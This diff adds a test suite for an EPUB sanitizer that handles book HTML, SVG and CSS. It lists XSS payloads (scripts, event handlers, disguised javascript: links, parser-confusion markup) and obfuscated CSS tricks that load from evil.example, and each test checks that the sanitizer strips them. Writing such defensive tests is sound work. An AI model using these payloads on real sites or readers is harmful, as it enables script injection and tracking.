@@ -1,0 +1,353 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { TokenType, tokenize } from '@csstools/css-tokenizer';
+import fc from 'fast-check';
+import type { Archive } from '../src/ingest/epub/archive.ts';
+import { BookFiles } from '../src/ingest/epub/bookFiles.ts';
+import { readPackage } from '../src/ingest/epub/packageDocument.ts';
+import { sanitizeCss } from '../src/ingest/epub/sanitizeCss.ts';
+import { sanitizeDocument } from '../src/ingest/epub/sanitizeDocument.ts';
+import { parseXml } from '../src/ingest/epub/xml.ts';
+import { packageDocument, page } from './support/bookFiles.ts';
+import { dangers, inspect } from './support/inspect.ts';
+
+const names = ['a.png', 'a.jpg', 'a.svg', 'a.mp4', 'a.css', 'f.otf', 'two.xhtml'].map(
+  (name) => `OPS/${name}`,
+);
+const archive = {
+  names,
+  has: (name: string) => names.includes(name),
+  find: (name: string) => (names.includes(name) ? name : null),
+} as unknown as Archive;
+const pack = readPackage(parseXml(Buffer.from(packageDocument({ chapters: ['two.xhtml'] }))), 'OPS/book.opf');
+const policy = new BookFiles(archive, pack).policyFor('OPS/one.xhtml', 'OPS/one.xhtml');
+
+function sanitized(source: string, kind: 'html' | 'svg' = 'html') {
+  const styles: string[] = [];
+  const result = sanitizeDocument(source, {
+    policy,
+    kind,
+    language: 'en',
+    wantedIds: new Set(['here']),
+    keepStyle: (css) => {
+      styles.push(css);
+      return `kept-${styles.length}.css`;
+    },
+  });
+  return { ...result, styles, body: /<body[^>]*>([\s\S]*)<\/body>/.exec(result.markup)?.[1] ?? '' };
+}
+
+describe('a page of a book', () => {
+  const kept: [what: string, source: string, expected?: string][] = [
+    [
+      'roles of EPUB',
+      '<section epub:type="chapter" id="a"><p class="x" lang="fr" dir="rtl">Oui</p></section>',
+    ],
+    ['ruby', '<p><ruby>漢<rp>(</rp><rt>かん</rt><rp>)</rp></ruby></p>'],
+    [
+      'formulas',
+      '<math xmlns="http://www.w3.org/1998/Math/MathML"><mfrac><mi>a</mi><mn>2</mn></mfrac></math>',
+    ],
+    [
+      'prefixed formulas, without the prefix',
+      '<m:math xmlns:m="http://www.w3.org/1998/Math/MathML"><m:mi>a</m:mi></m:math>',
+      '<math xmlns="http://www.w3.org/1998/Math/MathML"><mi>a</mi></math>',
+    ],
+    [
+      'drawings in their spelling',
+      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 1 1"><linearGradient id="g"></linearGradient><image xlink:href="a.jpg"></image><rect fill="url(&quot;#g&quot;)"></rect></svg>',
+    ],
+    ['tables', '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>'],
+    ['empty elements that HTML would not close', '<p><a id="x"></a><i></i></p>'],
+    ['void elements', '<p>a<br/>b<img src="a.png" alt="A"/></p>'],
+    ['inline style', '<p style="color:red">x</p>'],
+    ['white space', '<p>  a\n\tb </p>\n'],
+    ['links within the book', '<a href="two.xhtml#x">x</a>'],
+    [
+      'links to outside, in a tab of their own and without a referrer',
+      '<a href="https://example.org/">x</a>',
+      '<a href="https://example.org/" target="_blank" rel="noreferrer noopener">x</a>',
+    ],
+    [
+      'a picture in an object',
+      '<object data="a.svg" type="image/svg+xml">no</object>',
+      '<img src="a.svg" alt=""/>',
+    ],
+    [
+      'a film, with controls and never by itself',
+      '<video src="a.mp4" autoplay="autoplay"></video>',
+      '<video src="a.mp4" controls="controls"></video>',
+    ],
+    [
+      'the first drawable case of a switch',
+      '<epub:switch><epub:case required-namespace="urn:x">no</epub:case><epub:case required-namespace="http://www.w3.org/1998/Math/MathML">yes</epub:case><epub:default>no</epub:default></epub:switch>',
+      'yes',
+    ],
+    [
+      'the default of a switch',
+      '<epub:switch><epub:case required-namespace="urn:x">no</epub:case><epub:default>yes</epub:default></epub:switch>',
+      'yes',
+    ],
+    ['named characters', '<p>a&nbsp;b&mdash;c&eacute; &amp;amp;</p>', '<p>a\u00a0b—cé &amp;amp;</p>'],
+  ];
+  for (const [what, source, expected = source] of kept) {
+    it(`keeps ${what}`, () => assert.equal(sanitized(page(source)).body, expected));
+  }
+
+  const attacks: [what: string, source: string][] = [
+    ['a script', '<p>x</p><script>alert(1)</script>'],
+    ['a script of another prefix', '<s:script xmlns:s="http://www.w3.org/1999/xhtml">alert(1)</s:script>'],
+    [
+      'a script in a drawing',
+      '<svg xmlns="http://www.w3.org/2000/svg" onload="x()"><script>alert(1)</script></svg>',
+    ],
+    ['event handlers', '<p onclick="a()" ONMOUSEOVER="b()" style="x">x</p><img src="x" onerror="a()"/>'],
+    [
+      'javascript: in disguises',
+      '<a href="javascript:a()">1</a><a href=" java&#10;script:a()">2</a><a href="&#1;JaVaScRiPt:a()">3</a>',
+    ],
+    [
+      'javascript: in a drawing',
+      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:l="http://www.w3.org/1999/xlink"><a l:href="javascript:a()"><text>x</text></a></svg>',
+    ],
+    [
+      'an animated address',
+      '<svg xmlns="http://www.w3.org/2000/svg"><a><animate attributeName="href" values="javascript:a()"/><set attributeName="xlink:href" to="javascript:a()"/></a></svg>',
+    ],
+    ['a document in data:', '<a href="data:text/html,&lt;script&gt;">x</a><img src="data:text/html,x"/>'],
+    [
+      'frames',
+      '<iframe src="https://evil.example/" srcdoc="&lt;script&gt;"></iframe><frameset><frame src="x"/></frameset>',
+    ],
+    [
+      'plug-ins',
+      '<object data="https://evil.example/x.swf"><embed src="x"/></object><applet code="x"></applet>',
+    ],
+    [
+      'a form',
+      '<form action="https://evil.example/"><input name="password"/><textarea>x</textarea><button formaction="x">Sign in</button></form>',
+    ],
+    ['a base', '<base href="https://evil.example/"/>'],
+    ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/"/>'],
+    [
+      'pictures from elsewhere',
+      '<img src="https://evil.example/a.gif"/><img src="//evil.example/a.gif"/><img src="\\\\evil.example\\a.gif"/><img srcset="https://evil.example/a.gif 2x"/>',
+    ],
+    [
+      'a poster and a source from elsewhere',
+      '<video poster="http://evil.example/a.png"><source src="http://evil.example/a.mp4"/></video>',
+    ],
+    [
+      'a picture of a drawing from elsewhere',
+      '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/a.gif"/><feImage href="https://evil.example/a"/><use href="https://evil.example/a.svg#x"/></svg>',
+    ],
+    [
+      'styles that load',
+      '<p style="background:url(https://evil.example/a.png)">x</p><rect fill="url(https://evil.example/#g)"/>',
+    ],
+    [
+      'markup that an HTML parser would read differently',
+      '<style><a title="&lt;/style&gt;&lt;img src=x onerror=a()&gt;"/></style><p title="--&gt;&lt;script&gt;">x</p><noscript><p title="&lt;/noscript&gt;&lt;script&gt;a()&lt;/script&gt;"></p></noscript>',
+    ],
+    ['CDATA', '<p><![CDATA[<script>alert(1)</script>]]></p>'],
+    [
+      'a processing instruction and a comment',
+      '<?xml-stylesheet href="https://evil.example/x.css"?><!-- <script>a()</script> --><p>x</p>',
+    ],
+    ['an entity of its own', '<p>&evil;</p>'],
+    [
+      'an event of XML',
+      '<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#x"/><handler xmlns="http://www.w3.org/2000/svg">a()</handler>',
+    ],
+    [
+      'a namespace in disguise',
+      '<x xmlns="http://www.w3.org/2000/svg"><script xmlns="http://www.w3.org/1999/xhtml">a()</script></x>',
+    ],
+  ];
+  for (const [what, source] of attacks) {
+    it(`[AF-06] [AF-08] takes out ${what}`, () => {
+      for (const markup of [page(source), `<html><body>${source}</body></html>`, source]) {
+        const result = sanitized(markup);
+        assert.deepEqual(dangers(result.markup), [], result.markup);
+        assert.ok(inspect(result.markup).wellFormed, result.markup);
+        assert.doesNotMatch(`${result.markup}${result.styles.join()}`, /evil\.example(?!\/x\.swf)/);
+      }
+    });
+  }
+
+  it('[AF-06] is harmless and well-formed whatever pieces it is made of', () => {
+    const pieces = [...attacks, ...kept].map(([, source]) => source);
+    const torn = fc
+      .constantFrom(...pieces)
+      .chain((piece) =>
+        fc
+          .tuple(fc.nat(piece.length), fc.nat(piece.length))
+          .map(([a, b]) => piece.slice(Math.min(a, b), Math.max(a, b))),
+      );
+    const source = fc.array(fc.oneof(fc.constantFrom(...pieces), torn, fc.string({ unit: 'binary' })), {
+      maxLength: 8,
+    });
+    fc.assert(
+      fc.property(source, fc.boolean(), (parts, whole) => {
+        const result = sanitized(whole ? page(parts.join('')) : parts.join(''));
+        assert.deepEqual(dangers(result.markup), [], result.markup);
+        assert.ok(inspect(result.markup).wellFormed, result.markup);
+      }),
+      { numRuns: 400 },
+    );
+  });
+
+  it('counts the text that a parser finds in what was written', () => {
+    const words = fc.constantFrom(
+      'a',
+      ' b ',
+      '\n',
+      '&amp;',
+      '&#13;',
+      '&#160;',
+      '<br/>',
+      '<b>c</b>',
+      '<p>d</p>',
+      '<pre>\n\ne</pre>',
+      '<!-- x -->',
+      '<style>y{}</style>',
+      '\u0001',
+      '𝒳',
+      '<script>z</script>',
+      '<li>f',
+    );
+    fc.assert(
+      fc.property(fc.array(words, { maxLength: 12 }), fc.boolean(), (parts, whole) => {
+        const result = sanitized(whole ? page(parts.join('')) : parts.join(''));
+        assert.equal(inspect(result.body).text, result.text);
+      }),
+    );
+  });
+
+  it('reads what is no XML as the HTML that its maker saw', () => {
+    const result = sanitized(page('<p>One<br>two<p>Three <b>four'));
+    assert.equal(result.body, '<p>One<br/>two</p><p>Three <b>four</b></p>');
+  });
+
+  it('keeps a style sheet of the page beside it, with a link to it', () => {
+    const result = sanitized(
+      page('<p>x</p>', '<title>T</title><style media="print">p &gt; a { color: red }</style>'),
+    );
+    assert.deepEqual(result.styles, ['p > a { color: red }']);
+    assert.match(result.markup, /<link rel="stylesheet" type="text\/css" href="kept-1.css" media="print"\/>/);
+    assert.equal(result.text, 'x');
+  });
+
+  it('keeps the size of a fixed page, the language and the direction', () => {
+    const source =
+      '<html xmlns="http://www.w3.org/1999/xhtml" xml:lang="he" dir="rtl"><head><meta name="viewport" content="width=100, height=200"/></head><body class="b">x</body></html>';
+    const { markup } = sanitized(source);
+    assert.match(markup, /<html [^>]*xml:lang="he"[^>]* dir="rtl"[^>]* lang="he"|<html [^>]*lang="he"/);
+    assert.match(markup, /<meta name="viewport" content="width=100, height=200"\/>/);
+    assert.match(markup, /<body class="b">x<\/body><\/html>$/);
+  });
+
+  it('knows where blocks, asides and ids stand', () => {
+    const result = sanitized(page('<h1>Title</h1><p>a<ruby>b<rt>c</rt></ruby></p><p id="here">d</p>'));
+    assert.equal(result.text, 'Titleabcd');
+    assert.deepEqual(result.breaks, [0, 5, 8, 9]);
+    assert.deepEqual(result.asides, [[7, 8]]);
+    assert.equal(result.ids.get('here'), 8);
+    assert.equal(result.heading, 'Title');
+  });
+
+  it('[AF-04] refuses depth without end, and is not slowed down by it', () => {
+    const deep = page('<div>'.repeat(100_000));
+    const started = performance.now();
+    assert.throws(() => sanitized(deep), { code: 'epub_unsafe' });
+    assert.ok(performance.now() - started < 1_000);
+  });
+});
+
+describe('a drawing by itself', () => {
+  it('[AF-06] stays one drawing, with its style and without its scripts', () => {
+    const source =
+      '<?xml version="1.0"?><!DOCTYPE svg><svg xmlns="http://www.w3.org/2000/svg" width="4" onload="a()"><style>rect{fill:url(https://evil.example/)}</style><script>a()</script><rect/></svg><svg/>';
+    const { markup } = sanitized(source, 'svg');
+    assert.equal(
+      markup,
+      '<?xml version="1.0" encoding="utf-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:epub="http://www.idpf.org/2007/ops" width="4"><style>rect{fill:url(&quot;about:invalid&quot;)}</style><rect></rect></svg>',
+    );
+  });
+});
+
+/** Addresses from elsewhere that a browser would load for a style sheet, read token by token. */
+function loadedBy(css: string): string[] {
+  const tokens = tokenize({ css });
+  return tokens.flatMap((token, i) => {
+    if (token[0] === TokenType.URL) return /evil/.test(token[4].value) ? [token[1]] : [];
+    if (token[0] === TokenType.AtKeyword && token[4].value.toLowerCase() === 'import')
+      return /evil/.test(css) ? [token[1]] : [];
+    if (token[0] !== TokenType.Function || !/^(url|src|image|(-webkit-)?image-set)$/i.test(token[4].value))
+      return [];
+    const end = tokens.findIndex((later, at) => at > i && later[0] === TokenType.CloseParen);
+    const inside = tokens
+      .slice(i + 1, end === -1 ? undefined : end)
+      .map(([, raw]) => raw)
+      .join('');
+    return /evil|var\(/.test(inside) ? [token[1] + inside] : [];
+  });
+}
+
+describe('a style sheet', () => {
+  const css = (source: string) => sanitizeCss(source, policy.style);
+
+  const remote = [
+    '@import "https://evil.example/a.css";',
+    '@import url(https://evil.example/a.css) screen;',
+    '@\\69mport "//evil.example/a.css";',
+    'a{background:url(https://evil.example/a.png)}',
+    'a{background:URL( "https://evil.example/a.png" )}',
+    'a{background:\\75rl(https://evil.example/a.png)}',
+    'a{background:u\\72l("https\\3a//evil.example/a.png")}',
+    'a{background:url(/**/"https://evil.example/a.png")}',
+    'a{background:image-set("https://evil.example/a.png" 1x)}',
+    'a{background:-webkit-image-set(url(https://evil.example/a.png) 1x)}',
+    'a{--x:"https://evil.example/a.png";background:image-set(var(--x) 1x)}',
+    '@font-face{font-family:x;src:url(https://evil.example/a.woff)}',
+    'a{background:url(https://evil.example/a.png',
+    'a{cursor:url("//evil.example/a.cur"),auto}',
+    'a{background:u<!--rl(https://evil.example/a.png)}',
+    'a{background:u-->rl(https://evil.example/a.png)}',
+    'a{background:u@charset "x";rl(https://evil.example/a.png)}',
+    '@im<!--port "https://evil.example/a.css";',
+  ];
+  for (const source of remote) {
+    it(`[AF-08] loads nothing from elsewhere: ${source}`, () => {
+      assert.deepEqual(loadedBy(css(source)), [], css(source));
+    });
+  }
+
+  const untouched = [
+    '@namespace epub "http://www.idpf.org/2007/ops";[epub|type~="chapter"]{margin:0}',
+    '@media (min-width: 30em){a > b::before{content:"»\\201C" attr(title)}}',
+    'a{width:calc(100% - (2 * var(--gap)));background:#fff}',
+    'a{grid-template-areas:"a b" "c d"}',
+    ':is(h1, h2):not([hidden]) ~ p{margin:0}',
+  ];
+  for (const source of untouched) it(`leaves alone: ${source}`, () => assert.equal(css(source), source));
+
+  it('keeps what the book itself has', () => {
+    assert.equal(css('@import url(a.css) print;'), '@import "a.css" print;');
+    assert.equal(css("@font-face{src:url('f.otf')}"), '@font-face{src:url("f.otf")}');
+    assert.equal(css('a{fill:url(#g)}'), 'a{fill:url("#g")}');
+  });
+
+  it('never throws and is the same when done again', () => {
+    const pieces = fc.array(fc.oneof(fc.constantFrom(...remote, ...untouched), fc.string()), {
+      maxLength: 5,
+    });
+    fc.assert(
+      fc.property(pieces, (parts) => {
+        const once = css(parts.join(''));
+        assert.equal(css(once), once);
+        assert.deepEqual(loadedBy(once), []);
+      }),
+    );
+  });
+});
